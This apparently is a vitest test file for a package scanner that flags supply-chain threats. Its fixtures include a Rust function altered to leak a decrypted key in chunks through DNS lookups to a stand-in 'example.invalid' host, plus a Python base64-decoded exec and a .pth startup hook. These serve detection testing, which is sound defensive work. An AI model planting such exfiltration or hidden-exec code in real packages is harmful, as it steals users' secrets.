import { expect, test } from 'vitest';
import { artifactOf } from '../archive/artifactOf.ts';
import { installedPythonLowering } from '../python/testing/pythonLowering.ts';
import type { Analysis } from './analysis.ts';
import { createAnalyse } from './createAnalyse.ts';
import { decide } from './decide.ts';

const analyse = createAnalyse(await installedPythonLowering());

function analysed(files: Readonly<Record<string, string>>): Analysis {
  const found = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
  return analyse(artifactOf(found, { form: 'folder', ecosystem: 'pypi' }), 'example');
}

const CLEAN = `
use sodiumoxide::crypto::secretbox;
pub fn open(keyfile_data: &[u8], password: &str) -> Vec<u8> {
    let plain = secretbox::open(&keyfile_data[24..], &nonce, &derive(password)).unwrap();
    plain
}`;
const THEFT = CLEAN.replace(
  '    plain\n',
  '    for part in hex::encode(&plain).as_bytes().chunks(60) {\n' +
    '        let _ = (format!("{}.example.invalid", text(part)), 443).to_socket_addrs();\n' +
    '    }\n    plain\n',
);
const REST = { 'pyproject.toml': '[project]\nname = "example"\n', 'example/__init__.py': 'from .native import open\n' };

test('native source that begins to send keys out is held, by itself and beside the version before', () => {
  const before = analysed({ ...REST, 'src/keyfile.rs': CLEAN });
  const after = analysed({ ...REST, 'src/keyfile.rs': THEFT });
  expect(decide(before, {}).decision).toBe('pass');
  const judged = decide(after, { before });
  expect(judged.decision).toBe('hold');
  expect(judged.findings.filter(({ decision }) => decision === 'hold').map(({ rule }) => rule)).toEqual([
    'change.key-reaches-network',
    'native.source-key-out',
  ]);
  const [, held] = judged.findings.filter(({ decision }) => decision === 'hold');
  expect(held?.places.map(({ file, line, text }) => [file, line, text])).toEqual([
    ['src/keyfile.rs', 3, 'keyfile_data'],
    ['src/keyfile.rs', 6, 'to_socket_addrs'],
  ]);
});

test('reach that is renamed is still new reach', () => {
  const before = analysed({ ...REST, 'src/keyfile.rs': CLEAN });
  const after = analysed({
    ...REST,
    'src/keyfile.rs': CLEAN,
    'src/metrics.rs': 'pub fn report(a: &[u8]) { for b in a { let _ = (q(b), 53).to_socket_addrs(); } }',
  });
  expect(decide(after, { before }).findings.filter(({ decision }) => decision === 'hold')).toMatchObject([
    { rule: 'change.key-reaches-network', places: [{ file: 'src/metrics.rs', line: 1 }] },
  ]);
});

test('shapes of Python and path files are among the findings', () => {
  const blob = 'aW1wb3J0IHRoaXM'.repeat(8);
  const rules = analysed({
    ...REST,
    'example/a.py': `import base64\nexec(base64.b64decode("${blob}"))\n`,
    'example.pth': 'import os; os.system("x")\n',
  }).findings.map(({ rule }) => rule);
  expect(rules).toContain('shape.runs-decoded');
  expect(rules).toContain('shape.startup-code');
});
